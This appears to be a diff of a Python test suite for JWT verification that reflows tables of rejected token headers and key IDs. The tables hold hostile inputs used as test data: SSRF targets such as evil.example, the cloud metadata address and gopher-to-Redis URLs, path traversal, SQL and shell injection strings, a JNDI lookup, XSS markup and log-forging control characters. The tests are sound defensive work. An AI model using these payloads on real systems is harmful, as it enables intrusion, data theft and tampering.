@@ -43,19 +43,12 @@ async def test_a_token_cannot_bring_its_own_key(door: Door, members: dict[str, A
 
 
 ADDRESSES: dict[str, Any] = {
-    "a stranger's": "https://evil.example/keys",
-    "the issuer's own": STRICT + ".well-known/jwks.json",
+    "a stranger's": "https://evil.example/keys", "the issuer's own": STRICT + ".well-known/jwks.json",
     "the issuer's by another's name": "https://issuer.example@evil.example/",
-    "this machine's": "http://127.0.0.1:3012/jwks/refresh",
-    "the cloud's": "http://169.254.169.254/latest/meta-data/",
-    "a file's": "file:///etc/passwd",
-    "gopher's": "gopher://127.0.0.1:6379/_FLUSHALL",
-    "data": "data:application/json,{}",
-    "empty": "",
-    "null": None,
-    "a list": ["https://evil.example/keys"],
-    "a number": 5,
-}
+    "this machine's": "http://127.0.0.1:3012/jwks/refresh", "the cloud's": "http://169.254.169.254/latest/meta-data/",
+    "a file's": "file:///etc/passwd", "gopher's": "gopher://127.0.0.1:6379/_FLUSHALL", "data": "data:application/json,{}",
+    "empty": "", "null": None, "a list": ["https://evil.example/keys"], "a number": 5,
+}  # fmt: skip
 
 
 @pytest.mark.parametrize("member", ["jku", "x5u"])
@@ -65,27 +58,13 @@ async def test_a_token_cannot_say_where_its_key_is(door: Door, member: str, addr
 
 
 UNFIT_KEY_IDS: dict[str, Any] = {
-    "a line feed": "OKP-main\n",
-    "a forged log line": 'x\r\n{"event":"request"}',
-    "NUL": "OKP-main\x00",
-    "a terminal's escape": "\x1b[2J\x1b[31mx",
-    "a C1 control": "\x9b31m",
-    "DEL": "\x7f",
-    "a line separator": "a\u2028b",
-    "a right-to-left override": "\u202ex",
-    "a zero-width space": "OKP-main\u200b",
-    "a private character": "\ue000",
-    "a lone surrogate": "\ud800",
-    "surrogates in the wrong order": "\udc00\ud800",
-    "257 characters": "k" * 257,
-    "4,000 characters": "k" * 4000,
-    "null": None,
-    "a number": 5,
-    "zero": 0,
-    "true": True,
-    "a list": ["OKP-main"],
+    "a line feed": "OKP-main\n", "a forged log line": 'x\r\n{"event":"request"}', "NUL": "OKP-main\x00",
+    "a terminal's escape": "\x1b[2J\x1b[31mx", "a C1 control": "\x9b31m", "DEL": "\x7f", "a line separator": "a\u2028b",
+    "a right-to-left override": "\u202ex", "a zero-width space": "OKP-main\u200b", "a private character": "\ue000",
+    "a lone surrogate": "\ud800", "surrogates in the wrong order": "\udc00\ud800", "257 characters": "k" * 257,
+    "4,000 characters": "k" * 4000, "null": None, "a number": 5, "zero": 0, "true": True, "a list": ["OKP-main"],
     "an object": {"kid": "OKP-main"},
-}
+}  # fmt: skip
 
 
 @rows("key_id", UNFIT_KEY_IDS)
@@ -94,26 +73,13 @@ async def test_a_key_id_that_is_no_name_is_malformed(door: Door, key_id: Any) ->
 
 
 UNKNOWN_KEY_IDS = {
-    "a path": "../../../../../../etc/passwd",
-    "a device": "/dev/null",
-    "an encoded path": "..%2f..%2fkeys",
-    "SQL": "x' UNION SELECT 'key' -- ",
-    "a shell's": "|| sleep 10 #",
-    "a shell's substitution": "$(id)`id`",
-    "an address": "https://evil.example/keys",
-    "a template": "{{7*7}}${7*7}%n%s",
-    "JNDI": "${jndi:ldap://evil.example/a}",
-    "markup": "<script>alert(1)</script>",
-    "quotes": "\"'\\",
-    "letters that are not ASCII": "sch\u00f6n\u6f22\U0001f511",
-    "another case": "okp-MAIN",
-    "a space behind": "OKP-main ",
-    "a prefix": "OKP-mai",
-    "empty": "",
-    "a pattern": "OKP-*",
-    "256 characters": "k" * 256,
-    "256 characters that are escaped": "\u6f22" * 256,
-}
+    "a path": "../../../../../../etc/passwd", "a device": "/dev/null", "an encoded path": "..%2f..%2fkeys",
+    "SQL": "x' UNION SELECT 'key' -- ", "a shell's": "|| sleep 10 #", "a shell's substitution": "$(id)`id`",
+    "an address": "https://evil.example/keys", "a template": "{{7*7}}${7*7}%n%s", "JNDI": "${jndi:ldap://evil.example/a}",
+    "markup": "<script>alert(1)</script>", "quotes": "\"'\\", "letters that are not ASCII": "sch\u00f6n\u6f22\U0001f511",
+    "another case": "okp-MAIN", "a space behind": "OKP-main ", "a prefix": "OKP-mai", "empty": "", "a pattern": "OKP-*",
+    "256 characters": "k" * 256, "256 characters that are escaped": "\u6f22" * 256,
+}  # fmt: skip
 
 
 @rows("key_id", UNKNOWN_KEY_IDS)
@@ -158,26 +124,12 @@ async def test_without_a_key_id_several_keys_that_fit_are_none(door: Door, algor
 
 
 EXTENSIONS: dict[str, Any] = {
-    "a claim": ["exp"],
-    "what we know": ["alg"],
-    "unencoded payload": ["b64"],
-    "itself": ["crit"],
-    "a name that is not there": ["nobody"],
-    "several": ["exp", "b64", "http://vendor.example/x"],
-    "the same twice": ["exp", "exp"],
-    "none": [],
-    "numbers": [5],
-    "null in a list": [None],
-    "lists": [["exp"]],
-    "a string": "exp",
-    "an empty string": "",
-    "a number": 5,
-    "zero": 0,
-    "true": True,
-    "false": False,
-    "an object": {"exp": True},
-    "null": None,
-}
+    "a claim": ["exp"], "what we know": ["alg"], "unencoded payload": ["b64"], "itself": ["crit"],
+    "a name that is not there": ["nobody"], "several": ["exp", "b64", "http://vendor.example/x"],
+    "the same twice": ["exp", "exp"], "none": [], "numbers": [5], "null in a list": [None], "lists": [["exp"]],
+    "a string": "exp", "an empty string": "", "a number": 5, "zero": 0, "true": True, "false": False,
+    "an object": {"exp": True}, "null": None,
+}  # fmt: skip
 
 
 @rows("critical", EXTENSIONS)
@@ -186,20 +138,13 @@ async def test_what_a_token_calls_critical_we_do_not_understand(door: Door, crit
 
 
 OTHER_PAYLOADS: dict[str, dict[str, Any]] = {
-    "an unencoded payload": {"b64": False},
-    "an encoded payload that says so": {"b64": True},
-    "b64 that is null": {"b64": None},
-    "b64 that is text": {"b64": "false"},
-    "an unencoded payload, critically": {"b64": False, "crit": ["b64"]},
-    "a packed payload": {"zip": "DEF"},
-    "a packed payload by an unknown way": {"zip": "GZIP"},
-    "zip that is null": {"zip": None},
-    "zip that is empty": {"zip": ""},
-    "a nested token": {"cty": "JWT"},
-    "a nested token in lower case": {"cty": "jwt"},
-    "a nested token by its whole type": {"cty": "application/jwt"},
-    "a nested access token": {"cty": "at+jwt"},
-}
+    "an unencoded payload": {"b64": False}, "an encoded payload that says so": {"b64": True},
+    "b64 that is null": {"b64": None}, "b64 that is text": {"b64": "false"},
+    "an unencoded payload, critically": {"b64": False, "crit": ["b64"]}, "a packed payload": {"zip": "DEF"},
+    "a packed payload by an unknown way": {"zip": "GZIP"}, "zip that is null": {"zip": None},
+    "zip that is empty": {"zip": ""}, "a nested token": {"cty": "JWT"}, "a nested token in lower case": {"cty": "jwt"},
+    "a nested token by its whole type": {"cty": "application/jwt"}, "a nested access token": {"cty": "at+jwt"},
+}  # fmt: skip
 
 
 @rows("members", OTHER_PAYLOADS)
@@ -230,33 +175,14 @@ def typed(type_: Any, issuer: str) -> str:
 
 
 FOREIGN_TYPES: dict[str, Any] = {
-    "a DPoP proof": "dpop+jwt",
-    "a logout token": "logout+jwt",
-    "an ID token": "id+jwt",
-    "a security event": "secevent+jwt",
-    "an introspection answer": "token-introspection+jwt",
-    "an authorization request": "oauth-authz-req+jwt",
-    "a key binding": "kb+jwt",
-    "a refresh token": "rt+jwt",
-    "a JWS": "JOSE",
-    "a JWS in JSON": "JOSE+JSON",
-    "empty": "",
-    "a space behind": "at+jwt ",
-    "a space before": " at+jwt",
-    "a parameter": "at+jwt; v=1",
-    "another prefix": "text/at+jwt",
-    "the prefix twice": "application/application/at+jwt",
-    "a prefix of it": "at",
-    "a dotless i": "app\u0131ication/at+jwt",
-    "a Kelvin sign": "at+\u212awt",
-    "full-width letters": "\uff41\uff54+jwt",
-    "null": None,
-    "a number": 5,
-    "true": True,
-    "false": False,
-    "a list": ["at+jwt"],
-    "an object": {"at+jwt": 1},
-}
+    "a DPoP proof": "dpop+jwt", "a logout token": "logout+jwt", "an ID token": "id+jwt", "a security event": "secevent+jwt",
+    "an introspection answer": "token-introspection+jwt", "an authorization request": "oauth-authz-req+jwt",
+    "a key binding": "kb+jwt", "a refresh token": "rt+jwt", "a JWS": "JOSE", "a JWS in JSON": "JOSE+JSON", "empty": "",
+    "a space behind": "at+jwt ", "a space before": " at+jwt", "a parameter": "at+jwt; v=1", "another prefix": "text/at+jwt",
+    "the prefix twice": "application/application/at+jwt", "a prefix of it": "at", "a dotless i": "app\u0131ication/at+jwt",
+    "a Kelvin sign": "at+\u212awt", "full-width letters": "\uff41\uff54+jwt", "null": None, "a number": 5, "true": True,
+    "false": False, "a list": ["at+jwt"], "an object": {"at+jwt": 1},
+}  # fmt: skip
 
 
 @BOTH_ISSUERS
@@ -266,11 +192,8 @@ async def test_another_type_of_token_is_the_wrong_one(door: Door, type_: Any, is
 
 
 ANY_JWT: dict[str, Any] = {
-    "JWT": "JWT",
-    "jwt": "jwt",
-    "with the prefix": "application/jwt",
-    "none": ...,
-}
+    "JWT": "JWT", "jwt": "jwt", "with the prefix": "application/jwt", "none": ...,
+}  # fmt: skip
 
 
 @rows("type_", ANY_JWT)
